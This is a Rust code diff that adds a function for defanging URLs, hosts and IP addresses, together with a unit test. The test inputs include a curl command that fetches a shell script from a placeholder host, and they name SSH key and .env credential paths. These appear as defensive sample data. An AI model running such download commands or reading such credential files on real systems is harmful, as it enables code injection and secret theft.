@@ -35,6 +35,55 @@ pub(crate) fn quoted(text: &str, max: usize) -> String {
     format!("`{}`", printable(text, max).replace('`', "\\u{60}"))
 }
 
+/// `text` with addresses that nothing makes clickable: `hxxp://`, `example[.]com`.
+///
+/// URLs, and hosts and IP addresses with a port or path behind them; a bare `build.rs` stays as it is.
+pub(crate) fn defanged(text: &str) -> String {
+    let is_end = |it: char| {
+        it.is_whitespace() || matches!(it, '"' | '\'' | '`' | '<' | '>' | '|' | ';' | '(' | ')' | ',')
+    };
+    let mut shown = String::new();
+    for piece in text.split_inclusive(is_end) {
+        let (word, end) = match piece.char_indices().last() {
+            Some((at, last)) if is_end(last) => piece.split_at(at),
+            _ => (piece, ""),
+        };
+        shown.push_str(&defanged_word(word));
+        shown.push_str(end);
+    }
+    shown
+}
+
+fn defanged_word(word: &str) -> String {
+    if let Some((scheme, rest)) = word.split_once("://") {
+        let at = rest.find(['/', '?', '#']).unwrap_or(rest.len());
+        let (host, path) = rest.split_at(at);
+        let scheme = match scheme.to_ascii_lowercase().strip_suffix("http") {
+            _ if scheme.to_ascii_lowercase().ends_with("https") => {
+                format!("{}hxxps", &scheme[..scheme.len() - 5])
+            }
+            Some(_) => format!("{}hxxp", &scheme[..scheme.len() - 4]),
+            None => scheme.to_owned(),
+        };
+        return format!("{scheme}://{}{path}", host.replace('.', "[.]"));
+    }
+    let at = word.find('/').unwrap_or(word.len());
+    let (host, path) = word.split_at(at);
+    let (name, port) = host.rsplit_once(':').unwrap_or((host, ""));
+    let is_name = name.contains('.')
+        && !name.starts_with('.')
+        && !name.contains("..")
+        && name.chars().all(|it| it.is_ascii_alphanumeric() || matches!(it, '.' | '-' | '_' | '{' | '}'));
+    let is_number =
+        is_name && name.chars().all(|it| it.is_ascii_digit() || it == '.') && name.matches('.').count() == 3;
+    let has_port = !port.is_empty() && port.chars().all(|it| it.is_ascii_digit());
+    let ends_as_name =
+        name.rsplit('.').next().is_some_and(|last| last.starts_with(|it: char| it.is_ascii_alphabetic()));
+    let is_long = ends_as_name && (name.matches('.').count() >= 2 || !path.is_empty());
+    let is_host = is_number || (is_name && (has_port || is_long));
+    if is_host { format!("{}{}", host.replace('.', "[.]"), path) } else { word.to_owned() }
+}
+
 /// `1 file`, `2 files`.
 pub(crate) fn count(number: usize, singular: &str, plural: &str) -> String {
     if number == 1 { format!("1 {singular}") } else { format!("{number} {plural}") }
@@ -78,6 +127,19 @@ mod tests {
     #[test]
     fn a_quotation_ends_where_it_should() {
         assert_eq!(quoted("a` [x](y) `b", 100), "`a\\u{60} [x](y) \\u{60}b`");
+    }
+
+    #[test]
+    fn addresses_are_defanged() {
+        for (text, expected) in [
+            ("curl -s http://c.example.invalid/i.sh -o x", "curl -s hxxp://c[.]example[.]invalid/i.sh -o x"),
+            ("127.0.0.1:9", "127[.]0[.]0[.]1:9"),
+            ("HTTPS://a.b/", "hxxps://a[.]b/"),
+            ("paste.example.invalid", "paste[.]example[.]invalid"),
+            (".ssh/id_rsa build.rs {}/.env 1.2.3", ".ssh/id_rsa build.rs {}/.env 1.2.3"),
+        ] {
+            assert_eq!(defanged(text), expected);
+        }
     }
 
     #[test]
